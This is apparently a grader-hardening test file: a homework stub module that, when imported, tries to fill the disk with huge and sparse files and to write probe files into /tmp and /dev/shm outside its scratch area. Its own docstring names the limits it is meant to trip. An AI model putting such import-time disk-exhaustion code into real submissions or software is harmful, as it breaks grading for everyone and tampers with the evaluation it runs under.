"""Attack: fill the disk from the worker's scratch, and write outside it.

Tries: at import, a 64 GiB file in the working directory (the scratch), a sparse 1 TiB
one, and small probes in /tmp and /dev/shm (outside the scratch), named
dlgrade_adversarial_probe__huge_file*.
Would gain: nothing for itself; the disk fills up and everyone's grading fails.
Must stop it: a file-size limit (RLIMIT_FSIZE) or a size-limited scratch, and no write
access outside the scratch.
BOUNDED: where no file-size limit is set it writes 1 GiB only, so an unsandboxed run
cannot fill the machine's disk.
"""

import os
import resource


def _fill() -> None:
    unlimited = resource.getrlimit(resource.RLIMIT_FSIZE)[0] == resource.RLIM_INFINITY
    target = 2**30 if unlimited else 64 * 2**30
    chunk = b"\0" * 2**24
    try:
        with open("huge.bin", "wb") as f:
            for _ in range(target // len(chunk)):
                f.write(chunk)
    except OSError:
        pass
    try:
        with open("sparse.bin", "wb") as f:
            f.truncate(2**40)
    except OSError:
        pass
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "dlgrade_adversarial_probe__huge_file.bin"), "wb") as f:
                f.write(b"\0" * 2**20)
        except OSError:
            pass


_fill()


def softmax(O):
    raise NotImplementedError


def cross_entropy(y_hat, y):
    raise NotImplementedError


def softmax_cross_entropy(O, y):
    raise NotImplementedError


def softmax_cross_entropy_grad(O, y):
    raise NotImplementedError


def accuracy(y_hat, y):
    return float((y_hat.argmax(dim=1) == y).double().mean())
